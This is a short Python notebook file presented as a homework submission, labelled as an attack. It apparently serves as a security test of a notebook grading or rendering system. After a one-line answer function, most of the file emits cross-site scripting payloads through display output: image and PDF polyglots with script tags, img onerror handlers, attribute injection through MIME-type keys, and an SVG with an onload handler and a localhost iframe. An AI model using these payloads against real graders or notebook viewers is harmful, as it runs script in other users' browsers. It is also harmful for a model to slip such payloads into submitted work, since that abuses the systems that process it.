# /// attack
# tries = "shows pictures that are HTML, programs and PDF at the same time"
# sheet = "lehreinheit10"
# total = 1
# [parts]
# 1a = "right"
# ///

# %%
def aufgabe_1a(n_in, n_out, var_w, var_x):
    return n_in * var_w * var_x

# %%
import base64

from IPython.display import publish_display_data

SCRIPT = b"<script>document.title=7331*7333</script><img src=x onerror=alert(1)>"
for mime, begin in (
    ("image/png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0"),
    ("image/gif", b"GIF89a=0;/*"),
    ("image/jpeg", b"\xff\xd8\xff\xe0/*%PDF-1.4"),
):
    publish_display_data({mime: base64.b64encode(begin + SCRIPT).decode()})
    publish_display_data({mime: SCRIPT.decode(), "text/html": SCRIPT.decode()})
publish_display_data({"image/png": 'x" onerror="alert(1)', 'image/png" onload="alert(1)': "eA=="})
publish_display_data({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{SCRIPT.decode()}"
                      "<foreignObject><iframe src='http://127.0.0.1/'/></foreignObject></svg>"})
